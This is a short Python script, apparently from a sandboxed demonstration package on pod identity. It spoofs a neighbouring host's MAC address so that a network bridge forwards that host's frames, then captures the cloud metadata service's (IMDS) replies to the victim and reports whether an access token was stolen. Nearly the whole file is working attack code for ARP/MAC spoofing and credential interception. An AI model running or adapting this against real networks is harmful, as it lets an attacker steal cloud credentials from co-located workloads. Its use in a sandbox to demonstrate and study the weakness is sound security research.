"""Sends its own address with a neighbour's MAC address, so that the bridge brings it his frames.

    eavesdrop.py ADDRESS SECONDS

The answers that the neighbour waits for then come here. Prints how many bytes from IMDS to him were
seen, and whether a token was in them.
"""

from __future__ import annotations

import json
import sys
import time

from podidentity_sandbox.demo.forger import IMDS, gateway, own
from podidentity_sandbox.demo.frames import Wire


def listen(victim: str, seconds: float) -> bytes:
    """Return all that IMDS sent to the neighbour and that came here."""
    mac, address = own()
    theirs = Wire(mac, address).resolve(victim, time.monotonic() + 60)
    wire, end, seen = Wire(theirs, address), time.monotonic() + seconds, b""
    while time.monotonic() < end:
        wire.request_arp(gateway())
        for segment in wire.segments(IMDS[0], 0.01):
            if segment.to == victim:
                seen += segment.data
    return seen


if __name__ == "__main__":
    of, span = sys.argv[1:]
    heard = listen(of, float(span))
    print(json.dumps({"bytes": len(heard), "stolen": b"access_token" in heard}))
